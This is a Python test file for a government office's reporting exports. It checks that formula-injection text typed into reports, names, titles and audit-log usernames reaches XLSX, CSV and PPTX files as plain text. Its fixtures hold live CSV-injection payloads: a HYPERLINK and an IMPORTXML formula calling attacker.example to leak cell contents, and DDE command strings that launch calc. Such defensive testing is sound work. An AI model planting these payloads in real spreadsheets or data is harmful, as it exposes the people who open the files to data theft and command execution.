"""Issue 11, item 1: what a person typed or a document carried reaches the office's spreadsheets
as text, never as a formula (OWASP's CSV-injection rule), on SQLite and PostgreSQL.

A body reports `=HYPERLINK(...)` or `=cmd|' /C calc'!A0`, the office renames a body or a task
with such text, a sign-in name lands in the audit log: the secretary opens the XLSX or the CSV
and sees the text as typed; nothing is computed, nothing is fetched. Numbers and dates stay
numbers and dates.
"""

import csv
import io
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from pptx import Presentation
from sqlmodel import select

from models import AuditEvent, Directive, Task, session_scope
from render import audit as audit_csv
from render import exports
from services.admin import directives, organizations
from services.core import clock
from services.read import audit_log, briefing, snapshot
from tests.services.reporting_db import BACKENDS, actor, demo_database
from tests.services.test_reporting import GOOD, submit

LEAK = '=HYPERLINK("http://attacker.example/?leak="&C7&D7,"Xem")'
CALC = "=cmd|' /C calc'!A0"
PLUS = "+SUM(1+1)*cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-2+3+cmd|' /C calc'!A0"
FULLWIDTH = "＝1+1"
BODY = "=1+1 Sở Tư pháp"
TASK = "-1+1 Tổ chức thực hiện " + CALC
TITLE = '=IMPORTXML("http://attacker.example/","//a")'


@pytest.fixture(scope="module", params=BACKENDS)
def db(request, tmp_path_factory):
    """The demo database with hostile text typed everywhere a person types."""
    engine = None
    for engine in demo_database(request.param, tmp_path_factory):
        office = actor(engine, "vanphong")
        submit(
            engine,
            replace(
                GOOD,
                result=LEAK,
                difficulties=CALC,
                proposals=PLUS,
                evidence_number=AT,
                evidence_link="",
            ),
        )
        with session_scope(engine) as s:
            organizations.rename_body(s, actor=office, code="STP", name=BODY)
            task_id = s.exec(select(Task.id).order_by(Task.id)).first()
            task = s.get(Task, task_id)
            directives.update_task(
                s,
                actor=office,
                task_id=task_id,
                text=TASK,
                area=task.area,
                cadence=task.cadence,
                due_date=task.due_date,
            )
            directive = s.exec(select(Directive)).one()
            directives.update_directive(
                s,
                actor=office,
                directive_id=directive.id,
                kind=directive.kind,
                number=directive.number,
                issued_date=directive.issued_date,
                title=TITLE,
                issuer=directive.issuer,
                signer=directive.signer,
            )
        yield engine


def _workbook(engine):
    with session_scope(engine) as s:
        directive_id = s.exec(select(Directive.id)).one()
        f = snapshot.frozen(directive_id, clock.today())
        data = exports.build_xlsx(briefing.workbook(s, f))
    return load_workbook(io.BytesIO(data))


def test_no_cell_of_the_xlsx_is_a_formula_and_the_text_reads_as_typed(db):
    book = _workbook(db)
    assert book.sheetnames == ["Tổng hợp", "Chi tiết", "Chỉ tiêu"]
    texts = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.setdefault(cell.value, (sheet.title, cell))
    for typed in (LEAK, CALC + "\n" + PLUS, AT + " 20/11/2022", BODY, TASK):
        assert typed in texts, typed  # the text as typed, in a cell of its own
        sheet, cell = texts[typed]
        assert cell.quotePrefix, (sheet, typed)  # editing the cell in Excel keeps it text
    assert texts[LEAK][0] == "Chi tiết"
    assert any(v == f"Chỉ thị {TITLE}" for v in texts)  # the directive's title, row 2


def test_numbers_and_dates_stay_numbers_and_dates(db):
    detail = _workbook(db)["Chi tiết"]
    header = 4
    rows = list(detail.iter_rows(min_row=header + 1))
    assert rows
    percents = [r[6] for r in rows]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in percents)
    dues = [r[4] for r in rows if r[4].value is not None]
    assert dues and all(c.is_date for c in dues)
    assert not any(c.quotePrefix for c in percents)


def test_the_audit_csv_writes_a_formula_as_text_beginning_with_an_apostrophe(db):
    """A name typed at sign-in can reach the audit log: the CSV the office downloads opens
    with the text, not a formula."""
    short_leak = '=HYPERLINK("http://x.example/?"&C7,"Xem")'  # a name is 50 characters at most
    hostile = [short_leak, CALC, PLUS, AT, MINUS, "\t=1+1", "\r=1+1", FULLWIDTH]
    with session_scope(db) as s:
        for n, name in enumerate(hostile):
            s.add(AuditEvent(username=name, action="sign_in_failed", entity="user", entity_id=n))
    office = actor(db, "vanphong")
    with session_scope(db) as s:
        rows = audit_log.events(s, actor=office, filters=audit_log.AuditFilters())
    text = audit_csv.to_csv(rows).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == audit_csv.CSV_COLUMNS
    names = {line[2] for line in lines[1:]}
    for typed in (short_leak, CALC, PLUS, AT, MINUS, FULLWIDTH):
        assert "'" + typed in names, typed
    assert "'=1+1" in names  # the tab and the carriage return are not written before it
    for line in lines[1:]:
        for value in line:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), line
        assert line[0].isdigit()  # the id: a number, no apostrophe


def test_the_pptx_carries_the_text_and_no_link(db):
    with session_scope(db) as s:
        directive_id = s.exec(select(Directive.id)).one()
        f = snapshot.frozen(directive_id, clock.today())
        data = exports.build_pptx(briefing.build(s, f, body="STP"))
    shown = _pptx_text(data)
    assert f"Chi tiết: {BODY}" in shown  # the body's slide: its name as typed, as text
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            content = z.read(name)
            assert b"hlinkClick" not in content and b"hlinkHover" not in content, name
            if name.endswith(".rels"):
                assert b'TargetMode="External"' not in content, name


def _pptx_text(data: bytes) -> str:
    deck = Presentation(io.BytesIO(data))
    parts = []
    for slide in deck.slides:
        for shape in slide.shapes:
            if shape.has_text_frame:
                parts.append(shape.text_frame.text)
            if shape.has_table:
                parts += [cell.text for row in shape.table.rows for cell in row.cells]
    return "\n".join(parts)


def test_the_one_helper_writes_every_formula_sign_as_text():
    from render import spreadsheet

    for sign in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
        assert spreadsheet.csv_value(sign + "1+1") == "'" + sign + "1+1"
    assert spreadsheet.csv_value("Sở Tư pháp") == "Sở Tư pháp"
    assert spreadsheet.csv_value(-3) == -3 and spreadsheet.csv_value(2.5) == 2.5
